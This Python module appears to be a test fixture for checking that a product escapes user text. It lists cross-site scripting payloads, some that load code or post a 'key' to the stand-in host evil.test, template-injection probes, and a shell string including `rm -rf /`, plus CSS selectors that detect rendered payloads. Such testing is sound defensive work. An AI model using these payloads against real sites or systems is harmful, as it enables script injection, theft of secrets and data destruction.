"""What a hostile person puts wherever text is taken. All of it calls `__xss` if it ever runs."""

RUN = "__xss()"

PAYLOADS: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": "<script src=//evil.test/x.js></script>",
    "end of a script": f"</script><script>{RUN}</script>",
    "end of a title": f"</title></textarea></select></option></pre><script>{RUN}</script>",
    "image": f"<img src=x onerror={RUN}>",
    "svg": f"<svg/onload={RUN}><script>{RUN}</script><a xlink:href=javascript:{RUN}>x</a></svg>",
    "math": f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
    "double quote": f'" autofocus onfocus={RUN} onmouseover={RUN} x="',
    "single quote": f"' autofocus onfocus={RUN} onmouseover={RUN} x='",
    "no quote": f"x autofocus onfocus={RUN} tabindex=0",
    "quoted end": f"\"><script>{RUN}</script>'><script>{RUN}</script>",
    "comment": f"<!--><script>{RUN}</script>-->",
    "link": f"javascript:{RUN}",
    "markdown": f"[x](javascript:{RUN}) ![x](//evil.test/x.png) `<b onclick={RUN}>`",
    "data link": f"data:text/html,<script>{RUN}</script>",
    "template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %} {{config}} {{''.__class__}}",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;",
    "JSON": f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e\\x3cscript>",
    "full width": f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "right to left": f"\u202e\u2066<img src=x onerror={RUN}>\u2069 \u0645\u0631\u062d\u0628\u0627",
    "joined": f"\U0001f468\u200d\U0001f469\u200d\U0001f467 <b\u200bonclick={RUN}> e\u0301\u0301",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "base": "<base href=//evil.test/><link rel=stylesheet href=//evil.test/x.css>",
    "style": "<style>*{background:url(//evil.test/x)}</style><p style=background:url(//evil.test)>",
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><object data=x></object>',
    "form": "<form action=//evil.test><input name=key><button>Publish</button></form>",
    "clobbering": "<img id=publish name=form><a id=preview></a><p id=result data-key=x>",
    "shell": "$(id) `id` ; rm -rf / ' \\' | <x>",
}

FIRST = frozenset({"link", "data link"})
"""They count only where a text begins with them."""
LONGEST = 200
"""Characters of a name."""


def together() -> dict[str, str]:
    """All of them in as few texts as hold them."""
    groups: list[list[str]] = []
    for name, payload in PAYLOADS.items():
        others = [PAYLOADS[one] for one in groups[-1]] if groups else []
        if not groups or name in FIRST or len(" ".join([*others, payload])) > LONGEST:
            groups.append([])
        groups[-1].append(name)
    return {", ".join(group): " ".join(PAYLOADS[one] for one in group) for group in groups}


HOSTILE_ELEMENTS = (
    "script:not([src]), script[src*='evil'], link[href*='evil'], a[href*='evil'], "
    "iframe, object, embed, base, style, math, [style]:not(.uplot, .uplot *), "
    "[onerror], [onload], [onfocus], [onclick], [onmouseover], [autofocus], "
    "[href^='javascript:' i], [href^='data:text'], "
    "[src='x'], [action*='evil'], meta[content*='evil'], a#preview, img[name=form]"
)
"""What none of the product's pages has, and every payload would make if it were taken as HTML.

The chart is measured out by its script, which no policy forbids; it shows nobody's text.
"""


def visible_ascii(payload: str) -> str:
    """The same as a push token, which has no spaces and is ASCII."""
    return "".join(c if "!" <= c <= "~" else "/" for c in payload)
